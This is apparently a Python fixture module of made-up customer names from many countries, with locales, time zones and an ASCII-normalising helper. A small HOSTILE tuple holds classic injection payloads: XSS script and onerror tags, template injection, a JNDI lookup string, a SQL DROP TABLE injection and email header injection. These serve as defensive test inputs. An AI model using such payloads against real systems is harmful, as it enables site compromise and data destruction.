"""Names from many places, each with its country, time zones and locale. All people are made up."""

from __future__ import annotations

import unicodedata
from functools import lru_cache
from typing import NamedTuple


class Culture(NamedTuple):
    """Where a customer may come from, and what people there may be called."""

    country: str
    locale: str
    zones: tuple[str, ...]
    first: tuple[str, ...]
    last: tuple[str, ...]


def _culture(country: str, locale: str, zones: str, first: str, last: str) -> Culture:
    return Culture(
        country, locale, tuple(zones.split()), tuple(first.split()), tuple(last.split("|"))
    )


CULTURES = (
    _culture("GB", "en-GB", "Europe/London",
             "Olivia Amelia Isla Freya Poppy George Arthur Alfie Harry Priya Imran Siân Moira Callum",
             "Smith|Jones|Taylor|Brown|Wilson|Evans|Patel|Hughes|Begum|Clarke|Hall-Wright|D'Arcy"),
    _culture("US", "en-US", "America/New_York America/Chicago America/Denver America/Los_Angeles",
             "Emma Ava Sophia Mia Liam Noah Mason Ethan Jamal Keisha Carlos Mei Destiny Tyler",
             "Johnson|Williams|Miller|Davis|Garcia|Nguyen|Washington|O'Connor|Kim|De la Cruz|Lee"),
    _culture("DE", "de-DE", "Europe/Berlin",
             "Jürgen Käthe Lukas Hannah Björn Anneliese Sören Leonie Ulrike Cem Ayşe Günther Mia Finn",
             "Müller|Schröder|Weiß|Köhler|Schäfer|Vogel|Öztürk|von der Heide|Krause|Jäger|Groß"),
    _culture("FR", "fr-FR", "Europe/Paris",
             "Chloé Zoé Léa François Jérôme Hélène Anaïs Mathéo Inès Yasmine Benoît Océane Loïc Éloïse",
             "Lefèvre|Dupont|Moreau|D'Aboville|Garnier|L'Hermitte|Benali|Noël|Gauthier|Beaulieu"),
    _culture("IE", "en-IE", "Europe/Dublin",
             "Aoife Saoirse Niamh Ciarán Seán Oisín Róisín Pádraig Caoimhe Eoin",
             "O'Brien|O'Sullivan|Ní Dhomhnaill|Byrne|Mac Gabhann|Kelly|O'Neill|Walsh"),
    _culture("NL", "nl-NL", "Europe/Amsterdam",
             "Sanne Daan Femke Joris Lotte Thijs Maaike Bram Anouk Pieter",
             "de Vries|van den Berg|Jansen|'t Hooft|Bakker|van 't Veer|Visser|de Jong"),
    _culture("SE", "sv-SE", "Europe/Stockholm",
             "Åsa Göran Märta Linnéa Björn Elsa Håkan Ebba Nils Saga",
             "Lindström|Åkesson|Öberg|Nyström|Sjöberg|Holm|Ek|Bergström"),
    _culture("DK", "da-DK", "Europe/Copenhagen",
             "Søren Mette Freja Jørgen Astrid Magnus Signe Rasmus",
             "Sørensen|Mølgaard|Nielsen|Østergaard|Kjær|Bæk|Holm"),
    _culture("PL", "pl-PL", "Europe/Warsaw",
             "Małgorzata Łukasz Zofia Paweł Agnieszka Michał Żaneta Jakub Wojciech Hanna",
             "Kowalczyk|Wiśniewska|Wójcik|Zając|Dąbrowski|Szymańska|Krawczyk|Żak"),
    _culture("CZ", "cs-CZ", "Europe/Prague",
             "Jiří Tereza Ondřej Kateřina Zdeněk Eliška Matěj Šárka",
             "Dvořák|Nováková|Černý|Procházka|Růžička|Kučera|Šťastná"),
    _culture("ES", "es-ES", "Europe/Madrid Atlantic/Canary",
             "Lucía Íñigo María Begoña Andrés Nuria Joaquín Inés Xavier Rocío",
             "Muñoz|Ibáñez|García|Núñez|Etxeberria|Peña|Güell|López"),
    _culture("IT", "it-IT", "Europe/Rome",
             "Niccolò Chiara Matteo Giulia Beatrice Davide Alessia Lorenzo",
             "D'Angelo|Rossi|Dell'Orto|Ferrari|Esposito|Greco|Conti"),
    _culture("PT", "pt-PT", "Europe/Lisbon",
             "João Inês Gonçalo Beatriz Simão Mafalda Luís Conceição",
             "Simões|Magalhães|Conceição|Araújo|da Silva|Brandão"),
    _culture("BR", "pt-BR", "America/Sao_Paulo America/Manaus",
             "Thaís Antônio Luísa Caio Iracema Júlia Otávio Jussara",
             "Gonçalves|Assunção|Ribeiro|Falcão|dos Santos|Queiroz"),
    _culture("TR", "tr-TR", "Europe/Istanbul",
             "Gülşen İbrahim Çağla Ömer Şeyma Uğur Işıl Emre",
             "Yıldız|Çelik|Şahin|Güneş|Öztürk|Doğan"),
    _culture("GR", "el-GR", "Europe/Athens",
             "Γιώργος Ελένη Νίκος Μαρία Δημήτρης Σοφία",
             "Παπαδόπουλος|Νικολάου|Γεωργίου|Οικονόμου"),
    _culture("UA", "uk-UA", "Europe/Kyiv",
             "Олена Тарас Іван Ганна Богдан Соломія",
             "Шевченко|Коваленко|Мельник|Ґалаґан"),
    _culture("IN", "en-IN", "Asia/Kolkata",
             "Aarav Ananya Rohan Lakshmi Arjun Sunita Vikram Meera Farhan Gurpreet",
             "Sharma|Iyer|Singh|Reddy|Khan|Chatterjee|Nair|Kaur"),
    _culture("JP", "ja-JP", "Asia/Tokyo",
             "さくら 翔太 美咲 大輔 陽菜 Kenji Yūko Haruka",
             "佐藤|鈴木|高橋|田中|Itō|Ōno"),
    _culture("CN", "zh-CN", "Asia/Shanghai",
             "伟 芳 秀英 小龙 Xiuying Jùn", "王|李|张|刘|陈|Lǚ"),
    _culture("VN", "vi-VN", "Asia/Ho_Chi_Minh",
             "Nguyệt Đức Thảo Hương Quốc Bích", "Nguyễn|Trần|Phạm|Đặng|Võ"),
    _culture("EG", "ar-EG", "Africa/Cairo",
             "محمد فاطمة Youssef Nour Amr Heba", "حسن|El-Sayed|Abd el-Fattah|Mansour"),
    _culture("NG", "en-NG", "Africa/Lagos",
             "Chidinma Olúwaṣeun Ngozi Emeka Adébáyọ̀ Zainab", "Okonkwo|Adéyẹmí|Ọláníyan|Bello|Eze"),
    _culture("ZA", "en-ZA", "Africa/Johannesburg",
             "Thandiwe Sipho Lerato Johan Anika Nomvula", "Nkosi|Dlamini|van der Merwe|Naidoo|Botha"),
    _culture("NZ", "en-NZ", "Pacific/Auckland",
             "Aroha Tāne Mereana Wiremu Hinemoa Ruby", "Ngāta|Te Kanawa|Harris|Parata|McKenzie"),
    _culture("MX", "es-MX", "America/Mexico_City America/Tijuana",
             "Guadalupe Jesús Xóchitl Ramón Citlali Óscar", "Hernández|Peña|Ríos|Zúñiga|Cárdenas"),
)  # fmt: skip

HOSTILE = (
    ("<script>alert('sandbox')</script>", "O'Neill & Söhne"),
    ("<img src=x onerror=alert(1)>", '"><b>Bold</b>'),
    ("{{ 7 * 7 }}{% raw %}", "${jndi:ldap://example.com/a}"),
    ("Robert'); DROP TABLE customers;--", "Tables"),
    ("Ann\r\nBcc: everyone@example.com", "Header"),
)
"""Names that a page, a mail or a query must show or carry as text, and never obey."""

WHOLESALE = ("Harbour & Pine Stores", "Café Löwenherz", "Nook Gift Shops", "Maison d'Été Épicerie")


@lru_cache(maxsize=1024)
def plain(text: str) -> str:
    """`text` as the lower-case ASCII letters of an address; empty when nothing is left."""
    spread = unicodedata.normalize("NFKD", text.lower().replace("ß", "ss").replace("ø", "o"))
    return "".join(letter for letter in spread if letter.isascii() and letter.isalnum())
